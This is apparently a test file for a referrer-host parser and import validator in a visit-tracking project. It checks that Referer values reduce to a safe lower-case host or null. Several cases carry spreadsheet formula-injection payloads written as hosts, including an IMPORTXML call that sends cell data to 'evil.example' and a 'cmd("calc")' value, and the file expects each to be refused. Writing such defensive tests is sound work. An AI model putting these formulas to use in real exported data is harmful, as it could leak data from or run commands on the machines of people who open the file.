/**
 * The referrer a visit keeps (docs/architecture.md, the visit classification): the host of
 * `Referer` in lower case, never its path, query, user or port; `null` for none, for a string that
 * is no URL, for a scheme that is neither the web's nor an Android app's, and for a host holding
 * what no host can (a spreadsheet formula); IPv4 written as the URL parser writes it. The visits
 * import takes exactly the hosts this gives.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { createReferrerReader, isReferrerHost, MAX_HOST_LENGTH, referrerHost } from '../../src/visits/referrer.ts';

const CASES: readonly [string | undefined, string | null][] = [
  ['https://news.ycombinator.com/item?id=1', 'news.ycombinator.com'],
  ['https://www.google.com/', 'www.google.com'],
  ['http://example.com', 'example.com'],
  ['HTTPS://Example.COM/Path?Q=Secret#frag', 'example.com'],
  ['https://example.com:8443/x', 'example.com'],
  ['https://example.com:65535/x', 'example.com'],
  ['https://example.com./', 'example.com'],
  ['https://example.com?q', 'example.com'],
  ['https://example.com#top', 'example.com'],
  ['https://user:password@example.com/private', 'example.com'],
  ['https://sub_domain.example.com/', 'sub_domain.example.com'],
  ['https://bücher.de/', 'xn--bcher-kva.de'],
  ['http://[2001:DB8::1]:8080/', '[2001:db8::1]'],
  ['http://192.0.2.1/', '192.0.2.1'],
  // IPv4 as the URL parser writes it, whatever the spelling.
  ['http://0x7f.1/', '127.0.0.1'],
  ['http://1.2.3/', '1.2.0.3'],
  ['http://3232235777/', '192.168.1.1'],
  ['http://[::ffff:1.2.3.4]/', '[::ffff:102:304]'],
  ['http://999.1.1.1/', null],
  ['https://-x.example/', '-x.example'],
  ['android-app://com.google.android.gm/', 'com.google.android.gm'],
  ['android-app://com.Slack', 'com.slack'],
  // None, or nothing worth keeping.
  [undefined, null],
  ['', null],
  ['example.com', null],
  ['/relative/path', null],
  ['not a url', null],
  ['https://', null],
  ['https://example.com:99999/', null],
  ['file:///home/me/notes.html', null],
  ['about:blank', null],
  ['chrome-extension://abcdefghijklmnop/popup.html', null],
  ['data:text/html,hello', null],
  ['ftp://example.com/', null],
  [`https://${'a'.repeat(60)}.${'b'.repeat(60)}.${'c'.repeat(60)}.${'d'.repeat(60)}.${'e'.repeat(10)}/`, null],
  // Hosts the URL parser lets through but no host holds: a formula a spreadsheet would run.
  ['http://=importxml(concat("http",char(58),"//evil.example/?",A1))/', null],
  ['https://=HYPERLINK("evil.example","x")/', null],
  ['http://%3D1%2B1.example/', null],
  ['http://@SUM(1)/', null],
  ['http://+1/', null],
  ['http://a"b.example/', null],
  ['http://a,b.example/', null],
  ["http://a'b.example/", null],
  ['http://exa$mple.com/', null],
  ['http://a*b~c!d;e{f}g`h/', null],
  ['http://a..b/', null],
  ['android-app://=cmd("calc")/', null],
  ['android-app://com.example.my_app/', 'com.example.my_app'],
];

test('each Referer gives its host or null', () => {
  for (const [referer, host] of CASES) assert.equal(referrerHost(referer), host, String(referer));
});

test("the recorder's cached reader gives what referrerHost gives, the first time and again", () => {
  const cached = createReferrerReader();
  for (const round of [1, 2]) for (const [referer, host] of CASES) assert.equal(cached(referer), host, `${round}: ${referer}`);
  const again = createReferrerReader(8);
  fc.assert(
    fc.property(
      fc.oneof(
        fc.string(),
        fc
          .tuple(fc.constantFrom('http://', 'HTTPS://', 'android-app://', 'ftp://'), fc.string(), fc.constantFrom('', '/', ':8080/p?q=1'))
          .map((p) => p.join('')),
      ),
      (referer) => {
        assert.equal(again(referer), referrerHost(referer));
        assert.equal(again(referer), referrerHost(referer));
      },
    ),
  );
});

test('the cached reader remembers the last values it was asked, and never a value longer than 1 KB', () => {
  const asked: string[] = [];
  const cached = createReferrerReader(2, (referer) => {
    asked.push(referer);
    return referrerHost(referer);
  });
  const [a, b, c] = ['https://a.example/', 'https://b.example/x', 'https://c.example/'];
  for (const referer of [a, b, a, b, c, b, c, a]) cached(referer);
  // a and b are remembered; c pushes the oldest one (a) out; a asks again.
  assert.deepEqual(asked, [a, b, c, a]);
  const long = `https://d.example/${'p'.repeat(1024)}`;
  assert.equal(cached(long), 'd.example');
  assert.equal(cached(long), 'd.example');
  assert.deepEqual(asked.slice(4), [long, long]);
});

test('a host of the longest DNS length is kept, one character more is not', () => {
  const label = 'a'.repeat(63);
  const longest = `${label}.${label}.${label}.${'b'.repeat(61)}`;
  assert.equal(longest.length, MAX_HOST_LENGTH);
  assert.equal(referrerHost(`https://${longest}/`), longest);
  assert.equal(referrerHost(`https://${longest}b/`), null);
});

/** The characters a kept host may hold. */
const HOST = /^(?:[a-z0-9_-]+(?:\.[a-z0-9_-]+)*|\[[0-9a-f:]+\])$/;

test('whatever the Referer, a kept host holds only letters, digits, - _ . or is [IPv6]; the import takes it back', () => {
  const unit = fc.constantFrom(
    'a',
    'Z',
    '0',
    '9',
    '.',
    '-',
    '_',
    '=',
    '(',
    ')',
    '"',
    "'",
    ',',
    '+',
    '@',
    '%',
    '3',
    'D',
    ':',
    '[',
    ']',
    '!',
    '$',
    '&',
    '*',
    ';',
    '~',
    '{',
    'é',
    'ß',
    '。',
    '\t',
  );
  const host = fc.string({ unit, minLength: 1, maxLength: 16 });
  const scheme = fc.constantFrom('http://', 'https://', 'HTTP://', 'android-app://');
  fc.assert(
    fc.property(scheme, host, fc.constantFrom('/', '', '/p?q=1', ':8080/'), (s, h, rest) => {
      const kept = referrerHost(s + h + rest);
      if (kept === null) return;
      assert.match(kept, HOST, JSON.stringify(s + h + rest));
      assert.equal(isReferrerHost(kept), true, kept);
    }),
    { numRuns: 5000 },
  );
});

test('the import takes a referrer only in the form a visit records', () => {
  const taken = [
    'news.example',
    'sub_domain.example.com',
    'xn--bcher-kva.de',
    '192.0.2.1',
    '[2001:db8::1]',
    '[::ffff:102:304]',
    'com.google.android.gm',
    '-x.example',
    'localhost',
    'a'.repeat(MAX_HOST_LENGTH),
  ];
  for (const host of taken) assert.equal(isReferrerHost(host), true, host);
  const refused = [
    '=importxml(concat("http",char(58)))',
    '=1+1',
    '@SUM(1)',
    '+1',
    "'=1+1",
    'a(b)',
    'a"b',
    'a,b',
    'exa$mple.com',
    'News.Example', // the import lower-cases first
    'bücher.de',
    '[2001:DB8::1]',
    '[2001:db8:0:0:0:0:0:1]',
    '[::ffff:1.2.3.4]',
    'example.com.',
    'a..b',
    '.a',
    'news.example/path',
    'news.example:8080',
    'user@news.example',
    'a b',
    'a\tb',
    '',
    'a'.repeat(MAX_HOST_LENGTH + 1),
  ];
  for (const host of refused) assert.equal(isReferrerHost(host), false, JSON.stringify(host));
});
